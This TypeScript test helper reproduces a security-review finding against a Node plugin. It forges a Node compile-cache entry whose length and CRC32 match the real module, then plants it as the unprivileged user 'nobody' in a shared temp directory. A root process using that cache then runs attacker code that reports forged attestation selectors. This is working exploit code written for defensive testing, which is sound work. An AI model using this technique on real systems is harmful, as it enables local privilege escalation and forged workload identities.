// Plays the compile-cache poisoning attack of the security review (F1):
// a local user who owns `node-compile-cache` in a shared temp directory
// plants, for one of the plugin's modules, a cache entry compiled from code
// of their own. Node checks an entry only against the real source's length
// and CRC32 (both public), and V8 only against the length, so a root
// process that uses that cache directory runs the attacker's module.
//
// The entry's bytes are computed here (they are the same whoever computes
// them); the planting - the directory and the file in the shared temp dir -
// is done as the unprivileged user, as an attacker would.

import { execFileSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { crc32 } from 'node:zlib';

import { launcherV8Flags } from './launcher-flags.js';
import { REPO_ROOT } from './plugin-process.js';

const NOBODY = '65534';
// Node's cache file header: magic, source size, cache size, source CRC32,
// cache CRC32 (little-endian uint32 each), then V8's code cache.
const HEADER = { sourceSize: 4, sourceHash: 12 } as const;
// The launcher's V8 flags: V8 checks that a cache was made under the same ones.
const LAUNCHER_FLAGS = launcherV8Flags(join(REPO_ROOT, 'bin/spire-sigstore-attestor'));

export interface PlantedEntry {
  // The shared temp directory (mode 1777) to give the victim as TMPDIR;
  // the caller removes it.
  readonly sharedTmp: string;
  // The planted file, owned by the attacker.
  readonly entry: string;
}

// Compiles `module` (imported as ESM) under a fresh cache directory and
// returns that directory's one version subdirectory.
function compileUnder(cacheRoot: string, module: string): string {
  const script = "import { enableCompileCache } from 'node:module'; enableCompileCache(process.argv[1]); await import(process.argv[2]);";
  execFileSync(process.execPath, [...LAUNCHER_FLAGS, '--input-type=module', '-e', script, cacheRoot, pathToFileURL(module).href], { stdio: 'ignore' });
  const [versionDir, ...more] = readdirSync(cacheRoot);
  if (versionDir === undefined || more.length > 0) throw new Error(`expected one version directory in ${cacheRoot}`);
  return join(cacheRoot, versionDir);
}

// The cache entry (file name) that holds a module with this source.
function entryFor(versionDir: string, source: Buffer): string {
  for (const name of readdirSync(versionDir)) {
    const header = readFileSync(join(versionDir, name)).subarray(0, 20);
    if (header.readUInt32LE(HEADER.sourceSize) === source.length && header.readUInt32LE(HEADER.sourceHash) === crc32(source)) return name;
  }
  throw new Error(`no cache entry for a ${source.length}-byte source in ${versionDir}`);
}

// A module exporting `createAttestor`, whose attestor reports `selectors` for
// every PID. Only top-level code and bound built-ins: the code cache holds
// what was compiled eagerly, and lazily compiled functions would be parsed
// again from the real source.
function forgedAttestorModule(selectors: readonly string[], length: number): Buffer {
  const report = JSON.stringify({ pid: 0, outcome: 'container', selectors });
  const code =
    `const report = ${report};\n` +
    'const attestor = { explain: Promise.resolve.bind(Promise, report), attest: Promise.resolve.bind(Promise, report.selectors),' +
    ' ready: Promise.resolve.bind(Promise), close: Promise.resolve.bind(Promise) };\n' +
    'export const createAttestor = Object.assign.bind(Object, attestor);\n' +
    'export const registryClientOptions = Object.assign.bind(Object, {});\n';
  const padding = length - Buffer.byteLength(code) - 3;
  if (padding < 0) throw new Error('the forged module is longer than the real one');
  return Buffer.from(`${code}//${'x'.repeat(padding)}\n`);
}

// Root's view of the victim module is the one a real attacker gets by
// running the plugin's CLI as themselves (the files are world-readable).
export function plantForgedAttestor(victimModule: string, workDir: string, selectors: readonly string[]): PlantedEntry {
  const victim = readFileSync(victimModule);
  const realEntryDir = compileUnder(mkdtempSync(join(workDir, 'learn-')), victimModule);
  const entryName = entryFor(realEntryDir, victim);

  const forgedDir = mkdtempSync(join(workDir, 'forge-'));
  const forgedSource = forgedAttestorModule(selectors, victim.length);
  const forgedModule = join(forgedDir, 'forged.mjs');
  writeFileSync(forgedModule, forgedSource);
  const forgedVersionDir = compileUnder(join(forgedDir, 'cache'), forgedModule);
  const forged = readFileSync(join(forgedVersionDir, entryFor(forgedVersionDir, forgedSource)));
  // Same length already; make Node's source check pass for the real file.
  forged.writeUInt32LE(crc32(victim), HEADER.sourceHash);

  // Like /tmp: world-writable and sticky, reachable by everyone.
  const sharedTmp = mkdtempSync(join(tmpdir(), 'ssa-shared-tmp-'));
  chmodSync(sharedTmp, 0o1777);
  const payload = join(sharedTmp, 'payload.bin');
  writeFileSync(payload, forged, { mode: 0o644 });
  // Root's own version directory name ends in its uid (0).
  const versionDir = join(sharedTmp, 'node-compile-cache', realEntryDir.split('/').pop()?.replace(/-\d+$/, '-0') ?? '');
  const entry = join(versionDir, entryName);
  asNobody(['sh', '-c', 'mkdir -p "$1" && cp "$2" "$3"', 'plant', versionDir, payload, entry]);
  return { sharedTmp, entry };
}

export function asNobody(command: readonly string[]): void {
  execFileSync('setpriv', ['--reuid', NOBODY, '--regid', NOBODY, '--clear-groups', '--', ...command], { stdio: 'pipe' });
}
